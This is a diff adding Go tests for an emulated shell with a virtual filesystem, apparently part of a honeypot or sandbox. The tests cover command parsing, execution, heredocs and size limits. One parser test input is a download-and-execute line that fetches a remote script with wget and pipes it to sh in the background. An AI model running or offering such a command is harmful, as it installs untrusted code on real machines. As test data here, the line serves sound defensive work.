@@ -0,0 +1,149 @@
+package main
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+)
+
+func runTestShell(t *testing.T, filesystem *virtualFilesystem, args []string, input string) (uint32, string, string) {
+	stdout, stderr := &bytes.Buffer{}, &bytes.Buffer{}
+	status, err := executeProgram(commandContext{
+		args:       args,
+		stdin:      newReaderReadLiner(strings.NewReader(input)),
+		stdout:     stdout,
+		stderr:     stderr,
+		filesystem: filesystem,
+		env:        newShellEnvironment("/root", map[string]string{"HOME": "/root"}),
+	})
+	if err != nil {
+		t.Fatalf("Failed to execute program: %v", err)
+	}
+	return status, stdout.String(), stderr.String()
+}
+
+func TestParseShell(t *testing.T) {
+	for _, test := range []struct {
+		input, tree string
+	}{
+		{`echo "a b" | grep a; uname -a && id > /tmp/x`, `[echo "a b"] | [grep a]; [uname -a] && [id >/tmp/x]`},
+		{`cd /tmp || cd /var/run;wget http://1.2.3.4/x -O- |sh &`, `[cd /tmp] || [cd /var/run]; [wget http://1.2.3.4/x -O-] | [sh] &`},
+		{`A=1 B="$(id -u)" env 2>&1 >/dev/null`, `[A=1 B="$(id -u)" env 2>&1 >/dev/null]`},
+		{"! false # comment", `! [false]`},
+		{"cat <<EOF\nhello $USER\nEOF\n", `[cat <<EOF]`},
+	} {
+		list, err := parseShell(test.input)
+		if err != nil {
+			t.Errorf("parseShell(%q) failed: %v", test.input, err)
+			continue
+		}
+		if list.String() != test.tree {
+			t.Errorf("parseShell(%q)=%v, want %v", test.input, list, test.tree)
+		}
+	}
+	for _, input := range []string{`echo "a`, `echo a |`, `echo a &&`, `echo $(id`, "cat <<EOF\nfoo", `echo \`} {
+		if _, err := parseShell(input); err != errIncompleteCommand {
+			t.Errorf("parseShell(%q) err=%v, want %v", input, err, errIncompleteCommand)
+		}
+	}
+	for _, input := range []string{`| echo`, `echo ;;`, `echo a && || b`, `echo >`} {
+		if _, err := parseShell(input); err == nil || err == errIncompleteCommand {
+			t.Errorf("parseShell(%q) err=%v, want a syntax error", input, err)
+		}
+	}
+}
+
+func TestShellExecution(t *testing.T) {
+	for _, test := range []struct {
+		command        string
+		status         uint32
+		stdout, stderr string
+	}{
+		{`echo "a  b" c\ d 'e  $f'`, 0, "a  b c d e  $f\n", ""},
+		{`A="x  y"; echo $A "$A" ${A}z ~/bin`, 0, "x y x  y x yz /root/bin\n", ""},
+		{`echo $(echo foo) "$(echo bar; echo baz)" ` + "`echo qux`", 0, "foo bar\nbaz qux\n", ""},
+		{`false || echo ok; false && echo no; echo $?`, 0, "ok\n1\n", ""},
+		{`echo hi > /tmp/x; echo there >> /tmp/x; cat < /tmp/x | cat`, 0, "hi\nthere\n", ""},
+		{`cat /nonexistent 2>&1 | cat`, 0, "cat: /nonexistent: No such file or directory\n", ""},
+		{`cat /nonexistent 2>/dev/null || exit 7; echo unreachable`, 7, "", ""},
+		{`echo > /nonexistent/x`, 2, "", "sh: 1: cannot create /nonexistent/x: No such file or directory\n"},
+		{`nosuchcommand`, 127, "", "nosuchcommand: command not found\n"},
+		{`echo "unterminated`, 2, "", "sh: 1: Syntax error: end of file unexpected\n"},
+		{"cat <<EOF\nhi\nEOF", 0, "hi\n", ""},
+		{"cat <<-EOF\n\thi\n\tEOF", 0, "hi\n", ""},
+	} {
+		status, stdout, stderr := runTestShell(t, defaultFilesystemImage.clone(), []string{"sh", "-c", test.command}, "")
+		if status != test.status {
+			t.Errorf("%q: status=%v, want %v", test.command, status, test.status)
+		}
+		if stdout != test.stdout {
+			t.Errorf("%q: stdout=%q, want %q", test.command, stdout, test.stdout)
+		}
+		if stderr != test.stderr {
+			t.Errorf("%q: stderr=%q, want %q", test.command, stderr, test.stderr)
+		}
+	}
+}
+
+func TestShellContinuationLines(t *testing.T) {
+	filesystem := defaultFilesystemImage.clone()
+	input := "NAME=world\ncat > /tmp/greeting <<EOF\nhello $NAME\nEOF\necho 'multi\nline' | cat\ncat /tmp/greeting\nexit 3\necho unreachable\n"
+	status, stdout, stderr := runTestShell(t, filesystem, []string{"sh"}, input)
+	if status != 3 {
+		t.Errorf("status=%v, want 3", status)
+	}
+	if expectedStdout := "multi\nline\nhello world\n"; stdout != expectedStdout {
+		t.Errorf("stdout=%q, want %q", stdout, expectedStdout)
+	}
+	if stderr != "" {
+		t.Errorf("stderr=%q, want empty", stderr)
+	}
+}
+
+func TestRedirectedFileLimit(t *testing.T) {
+	file := &redirectedFile{name: "/tmp/x"}
+	if _, err := file.Write(make([]byte, maxUploadSize-1)); err != nil {
+		t.Fatalf("Failed to write: %v", err)
+	}
+	if n, err := file.Write([]byte("ab")); n != 1 || err != errTooLarge {
+		t.Errorf("Write=%v, %v, want 1, %v", n, err, errTooLarge)
+	}
+	if file.Len() != maxUploadSize {
+		t.Errorf("Len()=%v, want %v", file.Len(), maxUploadSize)
+	}
+
+	filesystem := defaultFilesystemImage.clone()
+	if err := filesystem.appendFile(file.name, file.Bytes(), 0644); err != nil {
+		t.Fatalf("Failed to append: %v", err)
+	}
+	if err := filesystem.appendFile(file.name, []byte("c"), 0644); !errors.Is(err, errTooLarge) {
+		t.Errorf("appendFile err=%v, want %v", err, errTooLarge)
+	}
+	status, _, stderr := runTestShell(t, filesystem, []string{"sh", "-c", "echo c >> /tmp/x"}, "")
+	if status == 0 || stderr == "" {
+		t.Errorf("status=%v stderr=%q, want the append to fail", status, stderr)
+	}
+}
+
+func TestShellInteractiveHeredoc(t *testing.T) {
+	stdout := &bytes.Buffer{}
+	status, err := executeProgram(commandContext{
+		args:       []string{"sh"},
+		stdin:      newReaderReadLiner(strings.NewReader("cat <<EOF\nhi\nEOF\nexit\n")),
+		stdout:     stdout,
+		stderr:     stdout,
+		pty:        true,
+		filesystem: defaultFilesystemImage.clone(),
+		env:        newShellEnvironment("/root", map[string]string{"HOME": "/root"}),
+	})
+	if err != nil {
+		t.Fatalf("Failed to execute program: %v", err)
+	}
+	if status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if expectedStdout := "$ > > hi\n$ "; stdout.String() != expectedStdout {
+		t.Errorf("stdout=%q, want %q", stdout, expectedStdout)
+	}
+}